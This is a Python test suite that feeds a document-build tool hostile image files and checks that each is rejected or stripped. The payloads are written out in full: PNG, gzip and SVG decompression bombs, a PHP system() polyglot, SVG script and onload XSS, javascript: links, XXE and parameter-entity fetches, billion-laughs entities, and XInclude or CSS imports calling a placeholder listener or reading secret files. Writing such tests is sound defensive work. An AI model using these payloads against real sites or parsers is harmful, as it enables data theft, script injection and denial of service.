"""Images that want to burst, run or call home: PNG, JPEG, GIF, WebP, SVG and what poses as them."""

from __future__ import annotations

import base64
import gzip
import io
import struct
import zlib
from collections.abc import Callable
from typing import Any

import pytest
from compressed_kit import gzip_of, zlib_of
from hostile_kit import Batch, Built, Case, Text, changed, check, manuscript, parameters
from PIL import Image

HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="50">'
RECT = '<rect width="90" height="40"/>'


def shown(name: str, file: str, data: Text | bytes, *says: str, **more: object) -> Case:
    """An article with one image; its findings stand on line 5."""
    text = manuscript(f'An image ![picture]({file}){{alt="A picture"}} in a line.')
    told = tuple(f"image-{code}:5" for code in says)
    return Case(name, {"article.md": text, file: data}, told, **more)  # type: ignore[arg-type]


def drawn(
    name: str, inside: Text, *says: str, before: str = "", head: str = HEAD, **more: object
) -> Case:
    whole = changed(inside, lambda inside: f"{before}{head}{inside}</svg>")
    return shown(name, "a.svg", whole, *says, **more)


def still(name: str, inside: str, never: str, **more: object) -> Case:
    """A drawing of which a part is left behind."""
    case = drawn(name, inside, **more)
    return Case(name, case.files, ("content-dropped:5",), never=(base64_of(never),))


def base64_of(words: str) -> str:
    """A pattern for words that may stand in a ``data:`` address, at any of three offsets."""
    coded = [base64.b64encode(b"\0" * n + words.encode())[4 if n else 0 : -4] for n in range(3)]
    return "|".join(code.decode().replace("+", r"\+") for code in coded)


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *, pixels: bytes | None = None, extra: bytes = b"") -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * (width + 1) * height) if pixels is None else pixels
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + extra
        + chunk(b"IDAT", rows)
        + chunk(b"IEND", b"")
    )


def encoded(kind: str, size: tuple[int, int] = (120, 80), **more: Any) -> bytes:
    target = io.BytesIO()
    gradient = Image.linear_gradient("L").resize(size).convert("RGB")
    gradient.save(target, kind, **more)
    return target.getvalue()


def animation(frames: int) -> bytes:
    """A GIF of that many frames. Pillow, which needs a second for so many, makes two of them."""
    data = encoded("GIF", (12, 8), save_all=True, append_images=[Image.new("L", (12, 8), 99)])
    last, end = data.rindex(b"\x21\xf9\x04"), len(data) - 1
    return data[:last] + data[last:end] * (frames - 1) + data[end:]


def giant_jpeg() -> bytes:
    data = bytearray(encoded("JPEG"))
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = b"\xff" * 4
    return bytes(data)


SOUND = png(4, 4)
LAUGHS = '<!ENTITY a0 "lol">' + "".join(
    f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)
)
BURST = zlib_of(b"A", 50_000_000)

PICTURES = (
    shown("png-bomb", "a.png", png(50_000, 50_000, pixels=zlib.compress(b"\0" * 1_000_000)), "too-large"),
    shown("png-thin", "a.png", png(1, 1_000_000), "too-large"),
    shown("png-empty", "a.png", b"", "unreadable"),
    shown("png-cut", "a.png", png(200, 200, pixels=b"\x78\x9c")[:60], "unreadable"),
    shown("png-short", "a.png", png(5000, 5000, pixels=zlib.compress(b"\0" * 99)), "unreadable"),
    shown("png-text-bomb", "a.png", png(4, 4, extra=chunk(b"zTXt", b"k\0\0" + BURST)), "unreadable"),
    shown("png-profile-bomb", "a.png", png(4, 4, extra=chunk(b"iCCP", b"k\0\0" + BURST)), "unreadable"),
    shown("png-wrong-sum", "a.png", SOUND[:30] + b"\xff" + SOUND[31:], "unreadable"),
    shown("jpeg-giant", "a.jpg", giant_jpeg(), "too-large"),
    shown("jpeg-cut", "a.jpg", encoded("JPEG")[:-400], "unreadable"),
    shown("jpeg-marker-alone", "a.jpg", b"\xff\xd8\xff\xe1\xff\xffExif\0\0", "unreadable"),
    shown("gif-cut", "a.gif", encoded("GIF")[:200], "unreadable"),
    shown("webp-cut", "a.webp", encoded("WEBP")[:60], "unreadable"),
    shown("gif-frames", "a.gif", animation(2000)),
    shown("tiff", "a.tif", encoded("TIFF"), shows=("data:image/",)),
    shown("png-in-jpg", "a.jpg", SOUND, shows=("data:image/png",)),
    shown("html-in-png", "a.png", "<html><script>alert(1)</script></html>", "unreadable"),
    shown("pdf-in-svg", "a.svg", b"%PDF-1.7\n", "unreadable"),
    shown("php-in-png", "a.png", SOUND + b"<?php system('id'); ?>"),
    shown("eps", "a.eps", "%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n", "unsupported"),
    shown("svgz", "a.svgz", gzip.compress(f"{HEAD}{RECT}</svg>".encode()), "unsupported"),
    shown("svgz-bomb", "a.svg", gzip_of(b" ", 50_000_000, begin=b"<svg>"), "unsupported"),
)  # fmt: skip
DRAWINGS = (
    still("svg-script", f"<script>alert(1234567)</script>{RECT}", "alert(1234567)"),
    still("svg-events", f'<g onload="alert(1234567)">{RECT}</g>', "alert(1234567)"),
    still("svg-foreign", f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="file://%SECRET%"/></foreignObject>{RECT}', "foreignObject"),
    still("svg-animation", f'<a><set attributeName="href" to="javascript:alert(1234567)"/>{RECT}</a>', "alert(1234567)"),
    still("svg-escaped-import", f"<style>@\\69mport 'http://%LISTENER%/a.css';</style>{RECT}", "\\69mport"),
    still("svg-svg-inside", f'<image href="data:image/svg+xml;base64,PHN2Zy8+"/>{RECT}', "image/svg+xml;base64"),
    drawn("svg-link", f'<a xlink:href="javascript:alert(1234567)">{RECT}</a>', never=(base64_of("alert(1234567)"),)),
    drawn("svg-image-file", '<image xlink:href="file://%SECRET%"/>', "external"),
    drawn("svg-image-http", '<image href="http://%LISTENER%/a.png"/>', "external"),
    drawn("svg-image-parent", '<image href="../../../outside/secret.txt"/>', "external"),
    drawn("svg-use-outside", '<use href="http://%LISTENER%/a.svg#b"/>', "external"),
    drawn("svg-import", '<style>@import "http://%LISTENER%/a.css";</style>', "external"),
    drawn("svg-css-url", '<rect style="fill: url(http://%LISTENER%/a#b)"/>', "external"),
    drawn("svg-font", "<style>@font-face{font-family:x;src:url(file://%SECRET%)}</style>", "external"),
    drawn("svg-instruction", RECT, before='<?xml-stylesheet href="http://%LISTENER%/a.css"?>'),
    drawn("svg-doctype", RECT, before='<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://%LISTENER%/svg11.dtd">'),
    drawn("svg-entity", "<text>&x;</text>", "unreadable", before='<!DOCTYPE svg [<!ENTITY x SYSTEM "file://%SECRET%">]>'),
    drawn("svg-parameter-entity", RECT, "unreadable", before='<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://%LISTENER%/a.dtd"> %x;]>'),
    drawn("svg-laughs", "<text>&a11;</text>", "unreadable", before=f"<!DOCTYPE svg [{LAUGHS}]>"),
    drawn("svg-xinclude", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://%SECRET%" parse="text"/>'),
    drawn("svg-use-ring", '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>', "unreadable"),
    drawn("svg-use-laughs", '<rect id="a0"/>' + "".join(f'<g id="a{n}">' + f'<use href="#a{n - 1}"/>' * 10 + "</g>" for n in range(1, 10)), "too-large"),
    drawn("svg-pattern-laughs", '<pattern id="p0"><rect/></pattern>' + "".join(f'<pattern id="p{n}" width="1" height="1">' + f'<rect fill="url(#p{n - 1})"/>' * 10 + "</pattern>" for n in range(1, 9)), "too-large"),
    drawn("svg-pattern-ring", '<pattern id="p"><rect fill="url(#p)"/></pattern>', "unreadable"),
    drawn("svg-class-ring", f'<style>.p{{fill:url(#p)}}</style><pattern id="p" width="9" height="9"><rect class="p" width="9" height="9"/></pattern><rect class="p" width="90" height="9"/>{RECT}'),
    drawn("svg-deep", "<g>" * 10_000 + "</g>" * 10_000, "unreadable"),
    drawn("svg-deep-within-limits", "<g>" * 95 + RECT + "</g>" * 95),
    drawn("svg-filter", f'<filter id="f" width="1e9" height="1e9"><feTurbulence numOctaves="99"/><feGaussianBlur stdDeviation="1e9"/></filter><g filter="url(#f)">{RECT}</g>'),
    drawn("svg-no-numbers", f'<path d="M NaN 0 L 1e400 5"/><rect x="inf" width="1e999" height="NaN"/>{RECT}'),
    drawn("svg-gigantic", RECT, "too-large", head='<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 999999999 9">'),
    drawn("svg-no-box", RECT, head='<svg xmlns="http://www.w3.org/2000/svg" viewBox="NaN NaN NaN NaN" width="1e400" height="-5">'),
    drawn("svg-bomb-inside", f'<image href="data:image/png;base64,{base64.b64encode(png(50_000, 50_000, pixels=b"")).decode()}"/>', "too-large"),
    drawn("svg-many-letters", "<text>" + "word " * 100_000 + "</text>", "too-large"),
    drawn("svg-many-elements", lambda: RECT * 120_000, "too-large"),
    drawn("svg-markers", lambda: '<marker id="m"><rect/></marker><path marker-mid="url(#m)" d="M0 0 ' + "L1 1 " * 300_000 + '"/>', "too-large"),
)  # fmt: skip


@pytest.mark.parametrize(("case", "batch"), parameters("pictures", PICTURES))
def test_hostile_picture(case: Case, batch: Batch, built: Callable[[Batch], Built]) -> None:
    check(built(batch), case)


@pytest.mark.parametrize(("case", "batch"), parameters("drawings", DRAWINGS))
def test_hostile_drawing(case: Case, batch: Batch, built: Callable[[Batch], Built]) -> None:
    check(built(batch), case)
